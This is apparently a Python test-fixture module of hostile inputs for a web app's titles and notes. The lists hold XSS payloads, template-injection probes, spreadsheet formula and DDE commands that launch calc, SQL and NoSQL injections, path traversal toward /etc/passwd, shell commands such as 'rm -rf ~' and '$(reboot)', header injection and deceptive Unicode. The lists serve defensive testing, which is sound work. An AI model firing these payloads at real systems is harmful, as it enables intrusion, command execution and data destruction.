"""Texts that would like to be more than text: to run, to break out, to hide, to pass for others.

Each is tried as a note, as the title of a cluster and as the title of a room.
"""

SCRIPTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '" autofocus onfocus=alert(1) x="',
    "</title></style></textarea></template><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<base href="https://example.org/">',
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    '<form action="https://example.org"><button>ok</button></form>',
    "<style>*{background:url(https://example.org/?x)}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]

OF_HTMX = [
    '<div hx-get="/desk" hx-trigger="load">x</div>',
    '<b hx-on:click="alert(1)">x</b>',
    '<li id="board" data-seq="999" data-gone>x</li>',
    '<p data-note="0" data-text data-in="board" data-before="note-1">x</p>',
    "<hx-partial hx-target=body>x</hx-partial>",
]

TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}{{ self }}{# rien #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(titre)s %s %n {0} {titre!r}",
]

MARKDOWN = [
    "# titre\n## autre\n---\n===",
    "- un\n- deux\n1. trois\n> quatre",
    "[x](javascript:alert(1)) ![y](https://example.org/y.png)",
    "`code` ```\nbloc\n``` ~~~",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "*gras* _penché_ **plus** ~~barré~~ <b>b</b>",
    "https://example.org www.example.org moi@example.org",
    "[x]: https://example.org 'y'\n[^1]: note\n:smile:",
    "fin de ligne\\\nautre  \nautre",
]

TYPST = [
    '#import "/etc/passwd": *',
    '#read("/etc/passwd")',
    '#panic("x") #eval("1+1")',
    "$ sum_(i=0)^n $ #h(1cm) #pagebreak()",
    '#link("https://example.org")[x] @ref <label>',
    "= Titre\n/ terme: x\n+ un\n#let x = 1",
    '"; #image("x.png") //',
]

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1;"cliquer")',
    '=IMPORTXML("https://example.org";"//a")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1 ﹢1",
    "⁼1+1",
    "−1+1",
    'DDE ("cmd";"/C calc";"!A0")',
    'a";=1+1;"b',
    "a,b;c\td",
    "'=1+1",
    '"=1+1"',
]

STORES = [
    "'; DROP TABLE room; --",
    '" OR 1=1 --',
    "x%' ESCAPE '\\",
    '{"$ne": null}',
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/null; rm -rf ~",
    "$(reboot) `reboot` | reboot &",
    "CON.txt:$DATA",
    "titre\r\nSet-Cookie: x=1\r\n\r\n<b>x</b>",
    'nom".pdf"; filename="x.exe',
    "%0d%0aLocation: https://example.org %00 %2e%2e%2f",
    "\\u0000\\x00\\0",
    "NULL None nil undefined NaN true 1e999",
]

SCRIPTURES = [
    "مرحبا بالعالم שלום",
    "a\u202egnp.exe\u202c b",
    "\u2066x\u2069\u200f\u200e y\u061c",
    "zero\u200bwidth\u2060joiner\ufeff",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇫🇷",
    "می‌خواهم नमस्ते ஃ ไทย",
    "e\u0301 et é, ﬁ, Å, ẞ",
    "Z" + "\u0351\u0363\u0327\u0488" * 30 + "algo",
    "\u0301commence par un accent",
    "a\u0000b\u0007c\u001b[31md\u007f\u0085e",
    "ligne\u2028autre\u2029encore\u000bet\u000c",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ｆｕｌｌ ⓒⓘⓡ",
    "\U000e0041\U000e0042\U000e0043 étiquettes",
    "\ufdfd ꧅ 𒐫 ⸻",
    "\U0010ffff\ufffe\ufdd0 x",
    "\u3164ㅤ\u2800 blancs",
    "mot" * 60,
    "a\u00a0b\u202fc\u2009d\u3000e",
]

HOSTILE = [
    *SCRIPTS, *OF_HTMX, *TEMPLATES, *MARKDOWN, *TYPST, *FORMULAS, *STORES, *SCRIPTURES,
]  # fmt: skip

HALF = ["moitié \ud83d", "\udc00", "a\ud800b\udfff"]
"""No text at all: halves of characters, which are refused."""
